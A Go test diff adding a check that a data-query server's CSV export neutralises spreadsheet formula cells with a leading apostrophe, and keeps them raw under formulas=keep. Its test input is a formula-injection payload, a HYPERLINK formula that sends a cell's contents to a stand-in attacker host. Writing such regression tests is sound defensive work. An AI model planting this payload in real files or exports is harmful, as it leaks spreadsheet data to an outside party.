@@ -516,3 +516,53 @@ func TestMetricsForTheOperatorBinary(t *testing.T) {
 		t.Errorf("GET /metrics = %v; want %v", got, want)
 	}
 }
+
+// TestCSVFormulasBinary: a CSV export neutralises text cells a
+// spreadsheet would run as formulas (a leading '), and formulas=keep
+// exports them as they are. Issue 46: cells starting with =, +, -, @ went
+// out as they were.
+func TestCSVFormulasBinary(t *testing.T) {
+	t.Parallel()
+	inst := startInstance(t)
+	c := newRawClient(t, inst.base, "127.0.0.1")
+	c.initialize(nil)
+	table := c.call(nil, "query_datasf", map[string]any{"dataset_id": "rqzj-sfat", "soql": "SELECT applicant LIMIT 200"}).resourceURL(t)
+	a := c.call(nil, "analyze_results", map[string]any{"results": map[string]any{"t": table},
+		"sql": `SELECT '=HYPERLINK("http://attacker.example/?"&A1,"x")' AS v, '-122.41' AS lon, printf('%.*c', 200, 'x') AS pad FROM t`})
+	var sc struct {
+		FullResult struct {
+			URL string `json:"url"`
+		} `json:"full_result"`
+	}
+	if err := json.Unmarshal(a.StructuredContent, &sc); err != nil || sc.FullResult.URL == "" {
+		t.Fatalf("analyze_results was not spilled: %.300s", a.StructuredContent)
+	}
+	read := func(query string) string {
+		resp, err := http.Get(sc.FullResult.URL + "/export?" + query)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		if resp.StatusCode != http.StatusOK {
+			t.Fatalf("export?%s = %d %.200s", query, resp.StatusCode, b)
+		}
+		return strings.SplitN(string(b), "\n", 3)[1]
+	}
+	safe := read("format=csv")
+	if !strings.Contains(safe, `,"'=HYPERLINK(`) || !strings.HasPrefix(safe, "-122.41,") {
+		t.Errorf("format=csv row = %q; want the formula cell prefixed with ' and the number as it is", safe)
+	}
+	kept := read("format=csv&formulas=keep")
+	cell := func(row string) string {
+		i := strings.Index(row, `"'=H`)
+		if i < 0 {
+			i = max(strings.Index(row, `"=H`), 0)
+		}
+		return row[i:]
+	}
+	t.Logf("a CSV export's formula cell: %q; with formulas=keep: %q", cell(safe), cell(kept))
+	if !strings.Contains(kept, `,"=HYPERLINK(`) {
+		t.Errorf("format=csv&formulas=keep row = %q; want the cell as it is", kept)
+	}
+}
